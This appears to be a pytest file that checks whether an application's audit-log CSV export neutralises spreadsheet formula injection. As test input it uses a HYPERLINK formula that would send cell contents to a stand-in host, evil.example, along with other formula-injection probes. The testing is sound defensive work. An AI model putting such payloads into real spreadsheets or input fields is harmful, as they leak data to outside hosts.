"""Issue 16: the audit export is safe to open in a spreadsheet, and audit/people reads are audited."""

from __future__ import annotations

import csv
import io

from lodestar.review.audit import csv_cell

from ..review.conftest import Operation


def test_csv_export_neutralises_formula_cells(op: Operation) -> None:
    evil = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    anon = op.client()
    for name in (evil, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"):
        anon.post("/api/login", json={"username": name, "password": "wrong"})
    export = op.client("auditor").get("/api/audit/export", params={"format": "csv"})
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))
    actors = [r[2] for r in rows[1:]]
    assert "'" + evil in actors and evil not in actors
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_csv_cell_rules() -> None:
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("plain") == "plain"
    assert csv_cell(None) == ""
    assert csv_cell(-5) == -5  # numbers are numbers, not formulas
